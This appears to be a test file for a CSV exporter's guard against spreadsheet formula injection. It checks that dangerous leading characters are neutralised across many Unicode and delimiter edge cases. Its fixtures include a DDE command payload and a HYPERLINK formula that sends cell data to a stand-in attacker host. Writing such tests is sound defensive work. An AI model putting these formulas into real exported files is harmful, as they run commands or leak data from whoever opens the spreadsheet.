import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { memberLayout } from '../../src/columns/columns.ts';
import { unguarded } from '../../src/files/csv-guard.ts';
import { csvCell, csvHeader } from '../../src/output/csv.ts';
import { written } from './gathering-sink.ts';

const cell = (value: unknown) => csvCell(JSON.stringify(value), false);

describe('cells that a spreadsheet would run', () => {
  it.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', '|calc', "=cmd|' /C calc'!A0"],
    ...['=HYPERLINK("https://evil.example?x="&A1,"click")', '-2+3+cmd|x', '@handle', ' =1', '   +1'],
    ...['\ttext', '\rtext', '\u00a0=1', '\u3000=1', '\ufeff=1', '\u200b=1', '\u200d=1', '\u200c-1'],
    ...['\u2060@x', '\u180e=1', '\u00ad=1', '\u2028=1', '\u0301=1', '\u3164=1', '\u{e0041}=1'],
    ...['\ufe0f=1', '\ufeff \u200b\u2060=1', '＝1', '＋1', '－1', '＠x', '\u3000＝1', '﹦1', '−1'],
    ...['+49 30 1234567', '+12345', '+1234567890123456', '+0123456789', '+4930123456 =1'],
    ...['+4930123456+1'],
  ])('%j', (text) => expect(cell(text)).toBe(`'${text}`));

  it.each([
    ['NUL before', '\0=1', "'=1"],
    ['escape before', '\u001b=1', "'=1"],
    ['C1 before', '\u0085=1', "'=1"],
    ['bidi before', '\u202e=1', "'=1"],
    ['mark before', '\u200e+1', "'+1"],
    ['control inside a phone number', '+4930\u000012345678', '+493012345678'],
  ])('%s: dropped, then looked at', (_name, text, written) => expect(cell(text)).toBe(written));

  // A spreadsheet that splits there does not see that the whole is quoted: for it the quote is no beginning.
  it.each([
    ['a semicolon', "x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"],
    ['a tab', 'x\t@SUM(A1)', "x\t'@SUM(A1)"],
    ['a line feed', 'x\n-1+cmd', "x\n'-1+cmd"],
    ['a carriage return', 'x\r+1', "x\r'+1"],
    ['both line ends', 'x\r\n=1', "x\r\n'=1"],
    ['each of them', 'a;=1;=2;;=3', "a;'=1;'=2;;'=3"],
    ['white space behind it', 'x; \u00a0\u200b=1', "x; \u00a0\u200b'=1"],
    ['what they take for an empty quoted text', 'x;"=1', 'x;"\'=1'],
    ['one of another width', 'x;＝1', "x;'＝1"],
    ['a delimiter that is the first', '\t=1', "'\t'=1"],
    ['a line end that is the first', '\n=1', "'\n'=1"],
    ['several, where the first would do', '=1;=2', "'=1;'=2"],
    ['a telephone number and more', '+4930123456\n=1', "'+4930123456\n'=1"],
    ['nothing that runs', 'a; b;c\td\ne = f; 1-2;"q"', 'a; b;c\td\ne = f; 1-2;"q"'],
    ['a pipe, which nobody splits at unasked', 'CEO | @ada', 'CEO | @ada'],
  ])('behind %s', (_name, text, written) => expect(cell(text)).toBe(written));

  it.each([
    ['{"a":"x;=1"}', '{"a":"x;\\u003d1"}'],
    ['["; ＝1",";-2",";b"]', '["; \\uff1d1",";\\u002d2",";b"]'],
    ['[\t-1,\n-2]', '[ -1,-2]'],
    ['{"a;":-1,"=b":"=c"}', '{"a;":-1,"=b":"=c"}'],
    ['{"a":";\\"=1"}', '{"a":";\\"=1"}'],
  ])('in %s, which stays the same JSON', (json, written) => {
    expect(csvCell(json, false)).toBe(written);
    expect(JSON.parse(written)).toEqual(JSON.parse(json));
    expect(csvCell(json, true)).toBe(json.replaceAll('\n', ''));
  });

  it('headers too', () => {
    expect(csvHeader(['=x'], false)).toEqual(["'=x"]);
    expect(csvHeader(['=x'], true)).toEqual(['=x']);
  });
});

describe('cells that are left as they are', () => {
  it.each([
    ['a phone number', '"+4930123456789"', '+4930123456789'],
    ['a negative number', '-1.10', '-1.10'],
    ['a long number', '12345678901234567890', '12345678901234567890'],
    ['an exponent', '1E5', '1E5'],
    ['true', 'true', 'true'],
    ['false', 'false', 'false'],
    ['null', 'null', ''],
    ['an empty string', '""', ''],
    ['text', '"a = b"', 'a = b'],
    ['lines', '"a\\r\\nb\\tc"', 'a\r\nb\tc'],
    ['an array', '[1.10, "=1"]', '[1.10, "=1"]'],
    ['an object', '{"a":\n 12345678901234567890}', '{"a": 12345678901234567890}'],
    ['an apostrophe', '"\'=1"', "'=1"],
    ['a list', '"* item"', '* item'],
    ['half a pair', '"\\ud800x"', '\ufffdx'],
  ])('%s', (_name, json, text) => expect(csvCell(json, false)).toBe(text));

  it('what is not there', () => expect(csvCell(undefined, false)).toBe(''));

  it.each(['=1+1', '\u202ex', '\u0000', '\u009b', '\t=1'])('%j when raw', (text) => {
    expect(csvCell(JSON.stringify(text), true)).toBe(text);
  });
});

const evil = fc.string({
  unit: fc.oneof(
    fc.constantFrom(...'=+-@| \t;\n\r",\0\ufeff\u200b１1'.split('')),
    fc.string({ unit: 'binary', maxLength: 1 }),
  ),
  maxLength: 12,
});

it('no string of any kind begins a formula', () => {
  fc.assert(
    fc.property(evil, (text) => {
      const written = cell(text);
      expect(
        /^\+[1-9]\d{6,14}$/.test(written) || !/^[\s\u200b-\u200d\u2060\ufeff]*[=+\-@|]/.test(written),
      ).toBe(true);
      expect(written).not.toMatch(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]/);
    }),
    { numRuns: 1000 },
  );
});

it('what is written is read back as it was', () => {
  const text = fc.string({ unit: fc.constantFrom(...'aé1=+-@| \t;\n\r",\u200b\u0301１＝'), maxLength: 12 });
  fc.assert(
    fc.property(text, (one) => {
      expect(unguarded(cell(one))).toBe(one);
    }),
    { numRuns: 2000 },
  );
  expect(unguarded("it's 'so'; 'x")).toBe("it's 'so'; 'x");
});

/** As a spreadsheet reads it: a quote counts where a field begins, and what comes after its end belongs to it too. */
function fieldsOf(text: string, delimiters: string, knowsQuotes: boolean): string[] {
  const fields = [''];
  let quoted = false;
  let begins = true;
  for (let at = 0; at < text.length; at++) {
    const character = text.charAt(at);
    const isQuote = knowsQuotes && character === '"';
    if (quoted && isQuote && text[at + 1] !== '"') quoted = false;
    else if (begins && isQuote) quoted = true;
    else if (!quoted && `${delimiters}\r\n`.includes(character)) fields.push('');
    else fields[fields.length - 1] += character;
    if (quoted && isQuote && !begins && text[at + 1] === '"') at++;
    begins = !quoted && `${delimiters}\r\n`.includes(character);
  }
  return fields;
}

it.each([
  [';', true],
  [';', false],
  ['\t', true],
  ['\t', false],
  [',', true],
  [',;\t', true],
] as const)('nor where a reader splits at %j, and knows quotes: %s', async (delimiters, knowsQuotes) => {
  const layout = memberLayout(['a', 'b', 'c']);
  const value = fc.oneof(evil, fc.array(evil, { maxLength: 3 }));
  await fc.assert(
    fc.asyncProperty(value, value, value, async (a, b, c) => {
      const { text } = await written('csv', { layout, shape: 'list' }, [JSON.stringify({ a, b, c })]);
      const [, ...lines] = text.split('\r\n');
      for (const field of fieldsOf(lines.join('\r\n'), delimiters, knowsQuotes)) {
        const begins = field.replace(/^[\s\p{C}\p{M}\p{Default_Ignorable_Code_Point}]+/u, '');
        expect(/^\+[1-9]\d{6,14}(?:,|$)/.test(begins) || !/^[=+\-@|]/.test(begins), field).toBe(true);
      }
    }),
    { numRuns: 500 },
  );
});

it.each(['\u200d', '\u{e0041}', ';', ';x'])('five million of %j are looked through once', (unit) => {
  const json = JSON.stringify(`${unit.repeat(5_000_000 / unit.length)};=1`);
  expect(csvCell(json, false).endsWith("'=1")).toBe(true);
});
